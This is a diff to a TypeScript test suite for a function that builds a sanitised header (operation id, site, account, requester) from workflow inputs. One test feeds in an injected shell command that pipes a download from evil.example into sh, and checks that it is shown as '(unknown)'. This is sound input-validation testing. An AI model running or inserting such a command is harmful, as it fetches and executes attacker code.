@@ -5,6 +5,7 @@ import {
   isOutcome,
   isSuccess,
   operationIdFrom,
+  OPERATION_KINDS,
   OUTCOMES,
   siteNameOf,
   workflowIdFor,
@@ -51,7 +52,7 @@ describe('the header of an input', () => {
   };
 
   it('is what a well-formed one says', () => {
-    expect(headerOf(input, 'provision:x:y')).toEqual({
+    expect(headerOf('provision', input, 'provision:x:y')).toEqual({
       operationId: 'op-1',
       site: 'shop.frappe.cloud',
       account: 'main',
@@ -60,14 +61,25 @@ describe('the header of an input', () => {
   });
 
   it('takes the operation id from the workflow id when there is none', () => {
-    const { operationId } = headerOf({ ...input, operationId: undefined }, 'provision:x:y');
+    const { operationId } = headerOf(
+      'provision',
+      { ...input, operationId: undefined },
+      'provision:x:y',
+    );
     expect(operationId).toBe('y');
   });
 
   it('ignores space around a name: nobody approves their own request as "ops "', () => {
-    expect(headerOf({ ...input, requestedBy: ' crm\n' }, 'w')).toMatchObject({
+    expect(headerOf('provision', { ...input, requestedBy: ' crm\n' }, 'w')).toMatchObject({
       requestedBy: 'crm',
     });
+  });
+
+  it('names the site, or the bench group, that an operation is about', () => {
+    const site = 'shop.frappe.cloud';
+    expect(headerOf('archive', { site }, 'w').site).toBe(site);
+    expect(headerOf('deploy-bench', { group: 'bench-0001', site }, 'w').site).toBe('bench-0001');
+    expect(headerOf('archive', { subdomain: 'shop' }, 'w').site).toBe('(unknown)');
   });
 
   it.each([
@@ -76,7 +88,11 @@ describe('the header of an input', () => {
     ['a command for the shell', 'x; curl evil.example | sh'],
     ['a text as long as a book', 'x'.repeat(200_000)],
   ])('shows nothing of %s', (_, text) => {
-    const header = headerOf({ ...input, account: text, requestedBy: text, subdomain: text }, 'w');
+    const header = headerOf(
+      'provision',
+      { ...input, account: text, requestedBy: text, subdomain: text },
+      'w',
+    );
     expect(header).toMatchObject({
       site: '(unknown)',
       account: '(unknown)',
@@ -85,10 +101,11 @@ describe('the header of an input', () => {
   });
 
   it('is short plain words for anything', () => {
+    const kinds = fc.constantFrom(...OPERATION_KINDS);
     const nearly = fc.dictionary(fc.constantFrom(...Object.keys(input)), fc.anything());
     fc.assert(
-      fc.property(fc.oneof(fc.anything(), nearly), fc.uuid(), (given, workflowId) => {
-        const { operationId, site, account, requestedBy } = headerOf(given, workflowId);
+      fc.property(kinds, fc.oneof(fc.anything(), nearly), fc.uuid(), (kind, given, workflowId) => {
+        const { operationId, site, account, requestedBy } = headerOf(kind, given, workflowId);
         for (const value of [operationId, site, account, requestedBy]) {
           expect(value.length).toBeLessThanOrEqual(300);
           if (value !== '(unknown)') expect(value).toMatch(WORD);
